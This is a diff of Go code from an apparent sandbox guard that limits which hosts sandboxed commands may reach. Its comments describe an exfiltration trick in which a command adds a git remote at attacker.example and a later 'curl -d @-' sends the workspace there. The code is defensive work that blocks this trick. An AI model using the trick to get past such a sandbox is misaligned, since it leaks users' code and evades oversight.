@@ -26,17 +26,11 @@ import (
 // the rules: the hosts of the repository's own git remotes (urls, as
 // [remoteURLs] lists them: so that git fetch and push reach them) and
 // the hosts a person approved for the workspace (cordon approve --host).
-func netAllow(ws, stateDir string, urls []gitkey.Entry) []string {
-	agent, _ := agentRemotes(stateDir, ws, func() []string { return remoteNames(urls) })
-	return netAllowFor(ws, stateDir, urls, agent)
-}
-
-// netAllowFor is [netAllow] with the remotes that are not the person's
-// (agent, as [agentRemotes] returns them) given: their hosts are not
-// added. A remote a command added (git remote add x
-// https://attacker.example/) would otherwise open its host to the next
-// command, which sends the workspace there (curl -d @- ...).
-func netAllowFor(ws, stateDir string, urls []gitkey.Entry, agent []string) []string {
+// The remotes in agent ([agentRemotes]: not the person's) add none: a
+// remote a command added (git remote add x https://attacker.example/)
+// would otherwise open its host to the next command, which sends the
+// workspace there (curl -d @- ...).
+func netAllow(ws, stateDir string, urls []gitkey.Entry, agent []string) []string {
 	if ws == "" {
 		return nil
 	}
@@ -100,8 +94,7 @@ func remotePort(url string) (port int, known bool) {
 		// scp's [user@]host:path (no "://"): ssh.
 		return 22, true
 	}
-	defaults := map[string]int{"https": 443, "http": 80, "ssh": 22, "git+ssh": 22, "ssh+git": 22, "git": 9418}
-	port, known = defaults[strings.ToLower(scheme)]
+	port, known = schemePorts[strings.ToLower(scheme)]
 	if !known {
 		return 0, false
 	}
@@ -124,6 +117,9 @@ func remotePort(url string) (port int, known bool) {
 	}
 	return port, true
 }
+
+// schemePorts are the ports of git's transports by their URL's scheme.
+var schemePorts = map[string]int{"https": 443, "http": 80, "ssh": 22, "git+ssh": 22, "ssh+git": 22, "git": 9418}
 
 // remoteURLs returns the url and pushurl entries of the remotes
 // (remote.NAME.url, remote.NAME.pushurl) in the repository configuration
@@ -237,19 +233,10 @@ func repoConfig(ws string) string {
 // the person configured, and others, with why they are not the person's
 // ("" when all are). A remote a sandboxed command added is not (the
 // guard's ledgers keep them), and none of a repository a command made
-// is, so that a command cannot have the person's credential asked for a
-// repository or host of its choosing.
-func gitRemotes(ws, stateDir string, urls []gitkey.Entry) (own, others []string, why string) {
-	if ws == "" {
-		return nil, nil, ""
-	}
-	agent, why := agentRemotes(stateDir, ws, func() []string { return remoteNames(urls) })
-	return gitRemotesFor(urls, agent, why)
-}
-
-// gitRemotesFor is [gitRemotes] with the remotes that are not the
-// person's, and why, given.
-func gitRemotesFor(urls []gitkey.Entry, agent []string, why string) (own, others []string, _ string) {
+// is (agent and why, as [agentRemotes] returns them), so that a command
+// cannot have the person's credential asked for a repository or host of
+// its choosing.
+func gitRemotes(urls []gitkey.Entry, agent []string, why string) (own, others []string, _ string) {
 	for _, e := range urls {
 		u, err := url.Parse(e.Value)
 		if err != nil || strings.ToLower(u.Scheme) != "https" || u.Hostname() == "" || strings.ContainsAny(u.Host, "*%") {
